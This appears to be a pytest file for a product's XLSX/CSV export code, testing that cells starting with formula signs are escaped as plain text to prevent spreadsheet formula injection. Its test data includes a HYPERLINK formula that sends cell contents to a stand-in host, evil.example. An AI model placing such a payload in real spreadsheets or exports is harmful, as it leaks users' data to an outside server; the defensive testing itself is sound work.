"""Every XLSX and CSV cell the product writes: a text that a spreadsheet would run as a formula is written
as plain text, numbers stay numbers, and reading a file back gives the text as it was typed."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import Workbook, load_workbook

from app.core.exports import append_row, csv_field, csv_row, imported_text, xlsx_cell

# Every character a spreadsheet may take as a formula's start, with the full-width forms.
TRIGGERS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage return": "\r",
    "full-width equals (U+FF1D)": "\uff1d",
    "full-width plus (U+FF0B)": "\uff0b",
    "full-width minus (U+FF0D)": "\uff0d",
    "full-width at (U+FF20)": "\uff20",
}
PAYLOAD = 'HYPERLINK("http://evil.example/?d="&A1,"Klik")'
FORMULAS = [pytest.param(start + PAYLOAD, id=name) for name, start in TRIGGERS.items()]
FORMULAS += [
    pytest.param("=1+1", id="short sum"),
    pytest.param("@SUM(A1:A2)", id="at function"),
    pytest.param("-2+3", id="minus sum"),
    pytest.param("+62 812 3456 7890", id="phone number"),
]
PLAIN = ["Dinas Komunikasi dan Informatika", "Rp 1.250.000", "a=b", " =spasi dulu", "#N/A", "", "'kutip"]
NUMBERS = [-5, -1250000000, 0, 3.5, -0.25, 2025]


def _written(values: list, write_only: bool) -> list:
    """``values`` written in one row of a real workbook, and the cells openpyxl reads back from the file."""
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Data") if write_only else workbook.active
    append_row(sheet, values)
    buffer = BytesIO()
    workbook.save(buffer)
    return list(load_workbook(BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only sheet", "ordinary sheet"])
@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_starts_like_a_formula_is_written_as_plain_text(text, write_only):
    (cell,) = _written([text], write_only)
    assert cell.data_type == "s"  # a string, not "f" (a formula)
    # XML reads a carriage return as a line feed, in any program: the cell is still this text.
    assert cell.value == text.replace("\r", "\n")
    assert cell.quotePrefix  # Excel and LibreOffice keep it text when the cell is edited


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_written_as_they_are(text):
    (cell,) = _written([text], write_only=True)
    if text:
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, False)
    else:
        assert cell.value is None  # an empty text is an empty cell


def test_numbers_stay_numbers_and_negative_ones_are_not_text():
    cells = _written(NUMBERS, write_only=True)
    assert [(c.data_type, c.value) for c in cells] == [("n", n) for n in NUMBERS]


def test_a_styled_cell_keeps_its_text_and_its_style():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Data")
    append_row(sheet, [xlsx_cell(sheet, "=HYPERLINK(1)", number_format="@"), xlsx_cell(sheet, -7)])
    buffer = BytesIO()
    workbook.save(buffer)
    text, number = next(load_workbook(buffer).active.iter_rows())
    assert (text.data_type, text.value, text.number_format) == ("s", "=HYPERLINK(1)", "@")
    assert (number.data_type, number.value) == ("n", -7)


@pytest.mark.parametrize("text", FORMULAS)
def test_in_a_csv_such_a_text_gets_an_apostrophe_that_reading_back_removes(text):
    assert csv_field(text) == "'" + text
    buffer = StringIO()
    csv.writer(buffer).writerow(csv_row([text, -5, "Dinas"]))
    (row,) = csv.reader(StringIO(buffer.getvalue()))
    assert row == ["'" + text, "-5", "Dinas"]  # -5 is written as a number
    assert imported_text(row[0]) == text


@pytest.mark.parametrize("value", [*PLAIN, *NUMBERS, None])
def test_in_a_csv_other_values_are_left_alone(value):
    assert csv_field(value) == value
    assert imported_text(value) == value


@pytest.mark.parametrize("text", ["'=1+1", "'@SUM(A1)", "'\uff1d1", "''-1"])
def test_a_typed_apostrophe_before_a_formula_sign_survives_both_round_trips(text):
    """The apostrophe reading back removes is doubled on writing, so a text typed so comes back whole."""
    assert imported_text(csv_field(text)) == text
    (cell,) = _written([text], write_only=True)
    assert cell.data_type == "s"
    assert imported_text(cell.value) == text
